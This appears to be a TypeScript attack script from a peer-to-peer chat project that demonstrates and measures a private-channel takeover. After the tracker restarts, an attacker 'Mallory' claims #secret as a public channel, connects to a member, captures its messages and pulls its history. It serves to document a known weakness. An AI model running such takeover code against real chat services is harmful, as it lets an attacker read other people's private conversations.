/**
 * The private-channel takeover, measured (docs/security/private.md): once the tracker has forgotten #secret
 * (a restart, or its members' registrations expired), Mallory from 127.0.0.2 creates it as a public channel
 * before the members' heartbeats claim it back, connects to a member, listens for what is said there and
 * asks that member's `/history/` for it. Prints what reached her. New; no WeApRous twin.
 */

import { option } from './kit';
import { type Child, exact, freePort, Processes, STARTUP_MS } from '../../test/apps/child';
import { Mallory } from './mallory';

const USAGE = `Usage: npx ts-node scripts/attacks/private-channel.ts --demo
       npx ts-node scripts/attacks/private-channel.ts --tracker http://127.0.0.1:8000 --peer http://127.0.0.1:5001 [--channel secret] [--listen 10]
  --demo     starts a tracker, Alice and Bob in #secret with a key, restarts the tracker, attacks, prints the figures
  --tracker  the tracker; --peer a member of the channel; Mallory waits (60 s at most) until she can take --channel,
             then listens --listen seconds for its messages and asks the peer for its history`;

export interface Figures {
  took: string;
  trackerAnswer: string;
  received: string[];
  historyStatus: number;
  historyCount: number;
  ms: number;
}

/** The attack against running processes; `during` runs while she listens (the demo makes Alice talk then). */
export async function attack(tracker: string, peer: string, channel: string, listenMs: number, during = async () => {}): Promise<Figures> {
  const mallory = new Mallory();
  await mallory.listen();
  try {
    const started = Date.now();
    const took = await mallory.takeChannel(tracker, channel, 60_000);
    await mallory.connect(peer);
    await during();
    await new Promise((done) => setTimeout(done, listenMs));
    const history = await mallory.history(peer, channel);
    const messages = Array.isArray(history.body.messages) ? history.body.messages : [];
    return {
      took: `${took.status} ${String(took.body.message ?? took.body.error ?? '')}`,
      trackerAnswer: JSON.stringify(took.body),
      received: mallory.received.filter((line) => line.startsWith(`${channel}:`)),
      historyStatus: history.status,
      historyCount: messages.length,
      ms: Date.now() - started,
    };
  } finally {
    await mallory.close();
  }
}

/** Alice and Bob in #secret with a key; a tracker restart; the attack; Alice says one more thing meanwhile. */
async function demo(): Promise<void> {
  const processes = new Processes();
  try {
    const port = await freePort();
    const trackerUrl = `http://127.0.0.1:${port}`;
    const startTracker = async () => {
      const t = processes.start('tracker', 'apps/tracker.ts', ['--server-ip', '127.0.0.1', '--server-port', String(port)]);
      await t.waitFor(exact(`[Backend] Listening on IP 127.0.0.1 port ${port}`), STARTUP_MS);
      return t;
    };
    let tracker = await startTracker();
    const peer = async (name: string): Promise<{ child: Child; port: number }> => {
      const p = await freePort();
      const child = processes.start(name, 'apps/peer.ts', [
        '--tracker',
        trackerUrl,
        '--port',
        String(p),
        '--name',
        name,
        '--heartbeat',
        '2',
      ]);
      await child.waitFor(exact(`[${name}] > `), STARTUP_MS);
      return { child, port: p };
    };
    const alice = await peer('Alice');
    const bob = await peer('Bob');
    alice.child.type('/join #secret hunter2');
    await alice.child.waitFor('you are in #secret');
    bob.child.type('/join #secret hunter2');
    await bob.child.waitFor('you are in #secret');
    alice.child.type('before the restart');
    await bob.child.waitFor('before the restart');
    await tracker.kill();
    tracker = await startTracker();
    const figures = await attack(trackerUrl, `http://127.0.0.1:${alice.port}`, 'secret', 3_000, async () => {
      alice.child.type('after the restart');
    });
    const bobGot = await bob.child.waitFor('after the restart', 10_000).then(
      () => true,
      () => false,
    );
    const refusal = await alice.child.waitFor('refused #secret', 10_000, 0).catch(() => '(none within 10 s)');
    report(figures, { bobGot, refusal });
  } finally {
    await processes.killAll();
  }
}

function report(figures: Figures, demoFigures?: { bobGot: boolean; refusal: string }): void {
  console.log(`Mallory's join of the channel: ${figures.took}`);
  console.log(`Messages of the channel that reached Mallory: ${figures.received.length} ${JSON.stringify(figures.received)}`);
  console.log(`Her signed GET /history/: ${figures.historyStatus}, ${figures.historyCount} messages`);
  console.log(`Attack took ${figures.ms} ms`);
  if (demoFigures) {
    console.log(`Bob got Alice's message after the takeover: ${demoFigures.bobGot}`);
    console.log(`Alice's console about the refusal: ${demoFigures.refusal}`);
  }
}

async function main(argv: string[]): Promise<void> {
  if (argv.includes('--help') || argv.includes('-h')) return void console.log(USAGE);
  if (argv.includes('--demo')) return demo();
  const [tracker, peer] = [option('tracker', ''), option('peer', '')];
  if (!tracker || !peer) return void console.log(USAGE);
  report(await attack(tracker, peer, option('channel', 'secret'), Number(option('listen', '10')) * 1000));
}

if (require.main === module) {
  main(process.argv.slice(2)).then(
    () => process.exit(0),
    (error: unknown) => {
      console.error(error);
      process.exit(1);
    },
  );
}
